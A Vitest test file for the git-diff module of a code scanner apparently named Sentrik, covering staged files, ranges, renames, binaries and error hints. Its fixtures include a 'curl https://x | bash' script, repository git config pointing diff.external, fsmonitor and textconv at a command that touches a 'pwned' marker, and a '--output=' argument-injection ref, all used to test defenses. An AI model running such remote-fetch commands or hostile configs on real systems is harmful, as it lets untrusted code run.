import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterAll, describe, expect, it } from 'vitest';
import { gitTopLevel, isGitRepo, rangeChanges, stagedFiles } from '../../src/engine/git.js';
import { SentrikError } from '../../src/util/errors.js';

const temps: string[] = [];
afterAll(() => {
  for (const t of temps) fs.rmSync(t, { recursive: true, force: true });
});

function tempDir(): string {
  const d = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sentrik-git-')));
  temps.push(d);
  return d;
}

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', '-c', 'commit.gpgsign=false', ...args], {
    cwd,
    encoding: 'utf8',
  });
}

function repo(): string {
  const d = tempDir();
  git(d, 'init', '-q');
  return d;
}

function write(root: string, rel: string, content: string | Buffer): void {
  fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  fs.writeFileSync(path.join(root, rel), content);
}

function commit(root: string, msg: string): string {
  git(root, 'add', '-A');
  git(root, 'commit', '-q', '-m', msg);
  return git(root, 'rev-parse', 'HEAD').trim();
}

function sentrikError(fn: () => unknown): SentrikError {
  try {
    fn();
  } catch (err) {
    if (err instanceof SentrikError) return err;
    throw err;
  }
  throw new Error('expected a SentrikError');
}

const lines = (s: Set<number>) => [...s].sort((a, b) => a - b);

describe('isGitRepo / gitTopLevel', () => {
  it('tells a repository from a plain folder', () => {
    const r = repo();
    fs.mkdirSync(path.join(r, 'sub'));
    expect(isGitRepo(r)).toBe(true);
    expect(isGitRepo(path.join(r, 'sub'))).toBe(true);
    expect(gitTopLevel(path.join(r, 'sub'))).toBe(r);
    expect(isGitRepo(tempDir())).toBe(false);
  });
});

describe('stagedFiles', () => {
  it('returns the staged (index) content, not the working tree, with the changed lines', () => {
    const r = repo();
    write(r, 'app.py', 'import os\nprint(1)\n');
    write(r, 'untouched.py', 'x = 1\n');
    commit(r, 'init');
    write(r, 'app.py', 'import os\nsecret = "v1"\nprint(1)\n');
    git(r, 'add', 'app.py');
    write(r, 'app.py', 'import os\nsecret = "v2 (working tree only)"\nprint(1)\nmore = 2\n');
    write(r, 'unstaged-new.py', 'not staged\n');
    const files = stagedFiles(r).files;
    expect(files.map((f) => f.path)).toEqual(['app.py']);
    expect(files[0].text).toBe('import os\nsecret = "v1"\nprint(1)\n');
    expect(lines(files[0].changedLines)).toEqual([2]);
    expect(files[0].size).toBe(Buffer.byteLength(files[0].text!));
  });

  it('works before the first commit, handles renames, and leaves out deleted files and symlinks', () => {
    const r = repo();
    write(r, 'first.txt', 'a\nb\n');
    git(r, 'add', '-A');
    expect(stagedFiles(r).files.map((f) => [f.path, lines(f.changedLines)])).toEqual([['first.txt', [1, 2]]]);
    commit(r, 'init');

    write(r, 'gone.txt', 'bye\n');
    write(r, 'old/name.js', Array.from({ length: 20 }, (_, i) => `const v${i} = ${i};`).join('\n') + '\n');
    commit(r, 'more');
    git(r, 'rm', '-q', 'gone.txt');
    git(r, 'mv', 'old/name.js', 'new-name.js');
    write(r, 'new-name.js', fs.readFileSync(path.join(r, 'new-name.js'), 'utf8').replace('const v3 = 3;', 'const v3 = "changed";'));
    fs.symlinkSync('first.txt', path.join(r, 'link.txt'));
    git(r, 'add', '-A');
    const files = stagedFiles(r).files;
    expect(files.map((f) => [f.path, lines(f.changedLines)])).toEqual([['new-name.js', [4]]]);
    expect(files[0].text).toContain('const v3 = "changed";');
  });

  it('skips staged binary and oversized blobs without failing', () => {
    const r = repo();
    write(r, 'ok.txt', 'fine\n');
    write(r, 'img.bin', Buffer.from([1, 2, 0, 3]));
    write(r, 'big.txt', 'y'.repeat(5000));
    write(r, 'latin1.txt', Buffer.from('caf\xe9\n', 'latin1'));
    git(r, 'add', '-A');
    const byPath = Object.fromEntries(stagedFiles(r, 4096).files.map((f) => [f.path, f]));
    expect(byPath['ok.txt'].text).toBe('fine\n');
    expect(byPath['img.bin']).toMatchObject({ skip: 'binary' });
    expect(byPath['img.bin'].text).toBeUndefined();
    expect(byPath['big.txt']).toMatchObject({ skip: 'too-large', size: 5000 });
    expect(byPath['big.txt'].text).toBeUndefined();
    expect(byPath['latin1.txt']).toMatchObject({ invalidUtf8: true, text: 'caf\ufffd\n' });
  });

  it('gives paths relative to a root that is a subfolder, and lists the files outside it without reading them', () => {
    const r = repo();
    write(r, 'pkg/a.ts', 'a\n');
    write(r, 'pkg/deep/c.ts', 'c\n');
    write(r, 'other/b.ts', 'b\n');
    write(r, 'top.ts', 't\n');
    git(r, 'add', '-A');
    const pkg = stagedFiles(path.join(r, 'pkg'));
    expect(pkg.files.map((f) => f.path)).toEqual(['a.ts', 'deep/c.ts']);
    expect(pkg.outside).toEqual(['../other/b.ts', '../top.ts']);
    expect(stagedFiles(path.join(r, 'pkg', 'deep')).outside).toEqual(['../../other/b.ts', '../../top.ts', '../a.ts']);
    expect(stagedFiles(r).outside).toEqual([]);
  });

  it('does not run repository-configured programs (external diff, textconv, fsmonitor)', () => {
    const r = repo();
    write(r, '.gitattributes', '*.txt diff=evil\n');
    write(r, 'a.txt', 'one\n');
    commit(r, 'init');
    write(r, 'a.txt', 'one\ntwo\n');
    git(r, 'add', '-A');
    // Configured last: git's own porcelain used above would run them.
    const marker = path.join(tempDir(), 'pwned');
    const evil = `touch ${marker}; false`;
    git(r, 'config', 'diff.external', evil);
    git(r, 'config', 'core.fsmonitor', evil);
    git(r, 'config', 'diff.evil.textconv', evil);
    expect(stagedFiles(r).files.map((f) => [f.path, lines(f.changedLines)])).toEqual([['a.txt', [2]]]);
    expect(rangeChanges(r, 'HEAD~0..HEAD').files).toEqual([]);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('keeps changed lines visible when .gitattributes marks files as binary (-diff)', () => {
    const r = repo();
    write(r, 'app.py', 'a = 1\n');
    commit(r, 'init');
    write(r, '.gitattributes', '* -diff\n');
    write(r, 'app.py', 'a = 1\npassword = "hunter2"\n');
    git(r, 'add', '-A');
    expect(stagedFiles(r).files.map((f) => [f.path, lines(f.changedLines)])).toEqual([
      ['.gitattributes', [1]],
      ['app.py', [2]],
    ]);
  });

  it('agrees on quoted file names (spaces, non-ASCII, quotes) between the file list and the diff', () => {
    const r = repo();
    const names = ['my file.ts', 'café/ünï.py', 'quote"d.txt', 'tab\there.txt'];
    for (const n of names) write(r, n, 'x\ny\n');
    git(r, 'add', '-A');
    const files = stagedFiles(r).files;
    expect(files.map((f) => f.path).sort()).toEqual([...names].sort());
    for (const f of files) expect(lines(f.changedLines)).toEqual([1, 2]);
  });

  it('outside a git repository: a SentrikError saying --staged needs one', () => {
    const err = sentrikError(() => stagedFiles(tempDir()));
    expect(err.message).toMatch(/not a git repository: --staged and --git-range need a git repository/);
    expect(err.hint).toBeTruthy();
  });
});

describe('rangeChanges', () => {
  function forkedRepo() {
    const r = repo();
    write(r, 'app.py', 'a = 1\nb = 2\nc = 3\n');
    write(r, 'README.md', '# demo\n');
    const base = commit(r, 'base');
    git(r, 'checkout', '-q', '-b', 'feature');
    write(r, 'app.py', 'a = 1\nb = requests.get(url, verify=False)\nc = 3\n');
    write(r, 'new.sh', '#!/bin/sh\ncurl https://x | bash\n');
    fs.rmSync(path.join(r, 'README.md'));
    const feature = commit(r, 'feature');
    git(r, 'checkout', '-q', 'main');
    write(r, 'main-only.txt', 'on main after the fork\n');
    const main = commit(r, 'main moves on');
    write(r, 'app.py', 'working tree edit that must not be read\n');
    return { r, base, feature, main };
  }

  it('A...B: changes on B since the merge base, content at B', () => {
    const { r, base, feature } = forkedRepo();
    const c = rangeChanges(r, 'main...feature');
    expect(c.base).toBe(base);
    expect(c.head).toBe(feature);
    expect(c.files.map((f) => [f.path, lines(f.changedLines)])).toEqual([
      ['app.py', [2]],
      ['new.sh', [1, 2]],
    ]);
    expect(c.files[0].text).toBe('a = 1\nb = requests.get(url, verify=False)\nc = 3\n');
  });

  it('A..B: the straight difference (includes what main added, reversed)', () => {
    const { r, main } = forkedRepo();
    const c = rangeChanges(r, 'main..feature');
    expect(c.base).toBe(main);
    // main-only.txt does not exist at feature: a deletion, so it is left out like README.md.
    expect(c.files.map((f) => f.path)).toEqual(['app.py', 'new.sh']);
  });

  it('an empty side means HEAD', () => {
    const { r, feature } = forkedRepo();
    git(r, 'checkout', '-q', '-f', 'feature');
    expect(rangeChanges(r, 'main...').head).toBe(feature);
  });

  it.each([
    ['origin/main...HEAD', "unknown git ref 'origin/main'", /git fetch origin main/],
    ['main...nope', "unknown git ref 'nope'", /git branch -a/],
    ['--output=/tmp/x...HEAD', "invalid git ref '--output=/tmp/x'", /branch, tag or commit/],
    ['main', "invalid git range 'main'", /A\.\.\.B/],
  ])('%s → a one-line SentrikError with a hint', (range, message, hint) => {
    const { r } = forkedRepo();
    const err = sentrikError(() => rangeChanges(r, range));
    expect(err.message).toBe(message);
    expect(err.hint).toMatch(hint);
  });

  it('outside a git repository: a SentrikError', () => {
    expect(sentrikError(() => rangeChanges(tempDir(), 'a...b')).message).toMatch(/--git-range need a git repository/);
  });
});
